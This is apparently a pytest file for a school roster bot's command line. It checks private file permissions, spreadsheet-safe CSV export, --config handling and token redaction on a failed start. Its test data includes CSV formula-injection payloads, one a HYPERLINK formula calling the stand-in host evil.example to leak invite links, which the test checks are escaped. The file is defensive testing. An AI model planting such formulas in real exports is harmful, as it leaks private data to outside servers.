"""What the command line leaves on disk and prints: private modes, spreadsheet-safe CSV, no token
on a failed start, and `--config` honoured wherever it is written."""

from __future__ import annotations

import csv
import os
import stat
import subprocess
import sys
from pathlib import Path

from bot.core.csvtext import spreadsheet_safe
from tests.fakeapi import TOKEN

REPO = Path(__file__).resolve().parent.parent.parent

STAFF = "工号,姓名,角色,学校,班级\nT01,王丽,班主任,城关第一中学,初二(3)班\n"
# Names a spreadsheet would run as formulas; the last one would send every other row's live
# invite link to another server when the file is opened in Excel.
HOSTILE = (
    "=1+1",
    "+SUM(A1)",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example/?"&F3,"点我")',
)


def classcare(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "bot", *args],
        capture_output=True,
        text=True,
        cwd=REPO,
        env={**os.environ, "BOT_TOKEN": TOKEN, **(env or {})},
        timeout=120,
    )


def write_config(folder: Path, database: Path, base_url: str = "") -> Path:
    config = folder / "config.toml"
    lines = [f'[general]\ndatabase = "{database}"\n', '[telegram]\nbot_username = "cc_bot"\n']
    if base_url:
        lines.append(f'base_url = "{base_url}/bot"\nbase_file_url = "{base_url}/file/bot"\n')
    config.write_text("".join(lines), encoding="utf-8")
    return config


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_config_given_before_the_subcommand_is_used(tmp_path: Path) -> None:
    database = tmp_path / "elsewhere" / "classcare.db"
    config = write_config(tmp_path, database)
    staff = tmp_path / "staff.csv"
    staff.write_text(STAFF, encoding="utf-8")
    result = classcare("--config", str(config), "roster", "import", str(staff))
    assert result.returncode == 0, result.stderr
    assert database.exists(), "the import went to the default database, not the config's"
    result = classcare("roster", "import", str(staff), "--config", str(config))
    assert result.returncode == 0, result.stderr


def test_data_folder_and_files_are_private(tmp_path: Path) -> None:
    os.chmod(tmp_path, 0o755)
    database = tmp_path / "data" / "classcare.db"
    config = write_config(tmp_path, database)
    staff = tmp_path / "staff.csv"
    staff.write_text(STAFF, encoding="utf-8")
    result = classcare("roster", "import", str(staff), "--config", str(config))
    assert result.returncode == 0, result.stderr
    invites = tmp_path / "invites.csv"
    result = classcare("invites", "--out", str(invites), "--config", str(config))
    assert result.returncode == 0, result.stderr
    ledger = tmp_path / "ledger.xlsx"
    result = classcare(
        "ledger", "export", "--from", "2026-11-30", "--to", "2026-11-30", "--out", str(ledger),
        "--config", str(config),
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert mode(database.parent) == 0o700
    written = [database, invites, ledger]
    written += [p for p in database.parent.iterdir() if p.name.startswith("classcare.db-")]
    for path in written:
        assert mode(path) == 0o600, f"{path.name} is {oct(mode(path))}"


def test_an_existing_database_is_made_private_at_open(tmp_path: Path) -> None:
    database = tmp_path / "classcare.db"
    config = write_config(tmp_path, database)
    staff = tmp_path / "staff.csv"
    staff.write_text(STAFF, encoding="utf-8")
    assert classcare("roster", "import", str(staff), "--config", str(config)).returncode == 0
    os.chmod(database, 0o644)
    assert classcare("roster", "import", str(staff), "--config", str(config)).returncode == 0
    assert mode(database) == 0o600


def test_invite_csv_cells_never_run_as_formulas(tmp_path: Path) -> None:
    rows = "".join(
        f"S{i},{csv_quote(name)},城关第一中学,初二(3)班\n" for i, name in enumerate(HOSTILE)
    )
    students = tmp_path / "students.csv"
    students.write_text("学号,姓名,学校,班级\n" + rows, encoding="utf-8")
    config = write_config(tmp_path, tmp_path / "classcare.db")
    result = classcare("roster", "import", str(students), "--config", str(config))
    assert result.returncode == 0, result.stderr
    invites = tmp_path / "invites.csv"
    result = classcare("invites", "--out", str(invites), "--config", str(config))
    assert result.returncode == 0, result.stderr
    with invites.open(encoding="utf-8-sig", newline="") as handle:
        # The sheet speaks the school's language: zh-CN headers by default.
        names = [row["姓名"] for row in csv.DictReader(handle)]
    assert sorted(names) == sorted("'" + name for name in HOSTILE)
    for row in invites.read_text(encoding="utf-8-sig").splitlines()[1:]:
        for cell in next(csv.reader([row])):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_tab_and_carriage_return_starts_are_escaped_too() -> None:
    # The roster import trims cells, so these cannot come from a file; a name set otherwise can.
    assert spreadsheet_safe("\tTab") == "'\tTab"
    assert spreadsheet_safe("\r=1") == "'\r=1"
    assert spreadsheet_safe("张小明") == "张小明"
    assert spreadsheet_safe("O'Neil-Smith") == "O'Neil-Smith"


def csv_quote(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def test_a_failed_start_prints_no_token_and_no_traceback(tmp_path: Path) -> None:
    # Port 9 (discard) has nobody listening: getMe fails at start-up.
    config = write_config(tmp_path, tmp_path / "classcare.db", base_url="http://127.0.0.1:9")
    result = classcare("run", "--config", str(config))
    output = result.stdout + result.stderr
    assert result.returncode == 1, output
    assert TOKEN not in output and TOKEN.split(":")[1] not in output
    assert "Traceback" not in output, output
    assert "Unclosed" not in output, output
    lines = [line for line in output.splitlines() if line.strip()]
    assert any("stopped on an error" in line and "NetworkError" in line for line in lines), output
    # Everything went through the redacting logger: each line is one log record.
    assert all(" ERROR " in line or " INFO " in line for line in lines), output
